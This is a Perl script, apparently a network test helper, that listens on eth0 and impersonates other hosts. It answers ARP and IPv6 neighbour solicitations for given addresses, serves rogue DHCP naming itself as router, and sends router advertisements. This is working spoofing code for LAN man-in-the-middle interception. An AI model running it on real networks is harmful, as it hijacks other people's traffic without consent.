# Answers whatever it hears on eth0 in the name of others, as fast as it hears it:
#   perl impostor.pl OWN-MAC OWN-IP FOREIGN-IP VLAN-TAGS PLAYED-IP...
# ARP and neighbour solicitations for the played addresses, DHCP with the foreign address and itself as router and server,
# router solicitations. Prints what it has answered, once standard input ends.
use strict;
use Socket qw(inet_aton inet_pton AF_INET AF_INET6);

my ($own_mac, $own_ip, $foreign_ip, $tags, @played) = @ARGV;
$own_mac = pack "H*", $own_mac;
$tags = pack "H*", $tags;
($own_ip, $foreign_ip) = map { inet_aton($_) } $own_ip, $foreign_ip;
my %is_played = map { (inet_pton(/:/ ? AF_INET6 : AF_INET, $_) => 1) } @played;
my $link_local = "\xfe\x80" . "\0" x 6 . "\0\0\0\xff\xfe\0\0\x77";
my $many = "\xff\x02" . "\0" x 13 . "\x01";
my %answered = (arp => 0, dhcp => 0, router => 0, neighbour => 0);

socket(my $socket, 17, 3, 0x0300) or die "socket: $!";
open(my $file, "<", "/sys/class/net/eth0/ifindex") or die "ifindex: $!";
bind($socket, pack("SnlSCCa8", 17, 3, int(<$file>), 0, 0, 0, "")) or die "bind: $!";

sub say_to {
  my ($to, $type, $payload, $kind) = @_;
  $answered{$kind}++;
  send($socket, $to . $own_mac . $tags . pack("n", $type) . $payload . "\0" x 20, 0);
}

sub sum {
  my $sum = 0;
  $sum += $_ for unpack "n*", $_[0] . (length($_[0]) % 2 ? "\0" : "");
  $sum = ($sum & 0xffff) + ($sum >> 16) while $sum > 0xffff;
  return pack "n", ~$sum & 0xffff;
}

sub dhcp {
  my ($asked) = @_;
  my $operation = $asked =~ /\x63\x82\x53\x63.*?\x35\x01\x03/s ? 5 : 2;
  my $options = "\x63\x82\x53\x63\x35\x01" . chr($operation) . "\x36\x04$own_ip\x33\x04\0\0\xff\xff\x01\x04\xff\xff\xff\0\x03\x04$own_ip\xff";
  my $message = "\x02\x01\x06\0" . substr($asked, 4, 4) . "\0" x 8 . $foreign_ip . $own_ip . "\0" x 4 . substr($asked, 28, 16) . "\0" x 192 . $options;
  my $datagram = pack("nnnn", 67, 68, 8 + length $message, 0) . $message;
  my $head = pack("CCnnnCC", 0x45, 0, 20 + length $datagram, 1, 0, 64, 17) . "\0\0" . $own_ip . "\xff\xff\xff\xff";
  substr($head, 10, 2) = sum($head);
  return $head . $datagram;
}

sub icmp6 {
  my ($to, $message) = @_;
  my $pseudo = $link_local . $to . pack("NN", length $message, 58);
  substr($message, 2, 2) = sum($pseudo . $message);
  return pack("NnCC", 0x60000000, length $message, 58, 255) . $link_local . $to . $message;
}

$| = 1;
print "ready\n";
for (;;) {
  my $readable = "";
  vec($readable, fileno($socket), 1) = 1;
  vec($readable, 0, 1) = 1;
  select($readable, undef, undef, undef);
  last if vec($readable, 0, 1) && !sysread(STDIN, my $rest, 1);
  next unless vec($readable, fileno($socket), 1);
  my $from = recv($socket, my $frame, 65536, 0);
  next if (unpack "SnlSC", $from)[4] == 4;
  my ($asker, $type) = (substr($frame, 6, 6), unpack("n", substr($frame, 12, 2)));
  if ($type == 0x0806 && unpack("n", substr($frame, 20, 2)) == 1) {
    my $wanted = substr($frame, 38, 4);
    say_to($asker, 0x0806, "\0\x01\x08\0\x06\x04\0\x02$own_mac$wanted" . substr($frame, 22, 10), "arp") if $is_played{$wanted};
  } elsif ($type == 0x0800 && unpack("n", substr($frame, 36, 2)) == 67) {
    say_to($asker, 0x0800, dhcp(substr($frame, 42)), "dhcp");
  } elsif ($type == 0x86dd && ord(substr($frame, 20, 1)) == 58 && ord(substr($frame, 54, 1)) == 133) {
    my $prefix = "\x03\x04\x40\xc0\0\0\xff\xff\0\0\xff\xff\0\0\0\0\xfd\x66" . "\0" x 14;
    say_to($asker, 0x86dd, icmp6($many, "\x86\0\0\0\x40\0\x07\x08" . "\0" x 8 . $prefix . "\x01\x01$own_mac"), "router");
  } elsif ($type == 0x86dd && ord(substr($frame, 20, 1)) == 58 && ord(substr($frame, 54, 1)) == 135) {
    # Who probes an address of its own has none yet.
    my $to = substr($frame, 22, 16) eq "\0" x 16 ? $many : substr($frame, 22, 16);
    my $wanted = substr($frame, 62, 16);
    say_to($asker, 0x86dd, icmp6($to, "\x88\0\0\0\x60\0\0\0$wanted\x02\x01$own_mac"), "neighbour") if $is_played{$wanted};
  }
}
print join(" ", map { "$_=$answered{$_}" } sort keys %answered), "\n";
